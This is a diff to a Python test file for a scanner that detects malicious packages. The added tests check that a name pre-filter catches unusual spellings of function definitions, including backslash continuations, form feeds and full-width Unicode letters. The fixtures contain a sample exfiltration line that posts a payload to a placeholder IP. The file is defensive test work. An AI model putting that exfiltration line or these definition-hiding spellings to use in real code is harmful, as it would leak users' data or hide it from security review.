@@ -6,8 +6,12 @@ import ast
 import textwrap
 from pathlib import Path
 
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
 from custody.scan import Verdict
-from custody.scan.export_slice import exported_slice, exported_tree
+from custody.scan.export_slice import exported_slice, exported_tree, may_define
 from tests.scan.builders import DEFAULT_NAME
 from tests.scan.test_flow import scan_package
 
@@ -116,3 +120,55 @@ def test_exfil_through_a_helper_in_a_large_module_is_still_followed(tmp_path: Pa
     verdict, findings = scan_package(tmp_path, files)
     assert verdict is Verdict.MALICIOUS, findings
     assert any(f.startswith("exfil-flow") for f in findings), findings
+
+
+def test_a_module_without_a_top_level_def_of_the_names_is_not_sliced() -> None:
+    # the helpers a module calls are mostly classes or re-exports: no parse is needed to know
+    module = b"from ._impl import send\n\nclass Client:\n    def send(self, payload):\n        pass\n"
+    assert not may_define(module, frozenset({"send", "Client"}))
+    assert exported_tree(module, frozenset({"send", "Client"})) is None
+    assert not may_define(b"def sender(): pass\ndef resend(): pass\n", frozenset({"send"}))
+
+
+@pytest.mark.parametrize(
+    "definition",
+    [
+        "def send(payload):",
+        "async  def send(payload):",
+        "def \\\nsend(payload):",  # a backslash joins the name to `def`
+        "async\\\n def send(payload):",
+        "\fdef send(payload):",  # a form feed resets the column
+        "def\tsend (payload):",
+    ],
+)
+def test_every_spelling_of_a_top_level_def_is_sliced(definition: str) -> None:
+    body = "    return requests.post('https://192.0.2.7/c', data=payload)\n"
+    source = f"import requests\n\n{definition}\n{body}"
+    assert may_define(source.encode(), frozenset({"send"}))
+    assert _functions(exported_tree(source.encode(), frozenset({"send"}))) == ["send"]
+
+
+def test_a_non_ascii_module_is_parsed_for_names_that_fold_to_the_called_one() -> None:
+    # NFKC folds the full-width letter: the parser defines `send`, which no ASCII search finds
+    body = "    return requests.post('https://192.0.2.7/c', data=payload)\n"
+    source = f"import requests\n\ndef \uff53end(payload):\n{body}"
+    assert may_define(source.encode(), frozenset({"send"}))
+    assert _functions(exported_tree(source.encode(), frozenset({"send"}))) == ["send"]
+
+
+@given(
+    st.lists(
+        st.tuples(
+            st.sampled_from(["def", "async def", "class"]), st.from_regex(r"[a-z_]{1,6}", fullmatch=True)
+        ),
+        max_size=6,
+    ),
+    st.from_regex(r"[a-z_]{1,6}", fullmatch=True),
+)
+def test_may_define_is_never_false_for_a_name_the_parser_defines(
+    definitions: list[tuple[str, str]], wanted: str
+) -> None:
+    source = "".join(f"{kind} {name}():\n    pass\n" for kind, name in definitions).encode()
+    functions = (ast.FunctionDef, ast.AsyncFunctionDef)
+    defined = {s.name for s in ast.parse(source).body if isinstance(s, functions)}
+    assert may_define(source, frozenset({wanted})) == (wanted in defined)
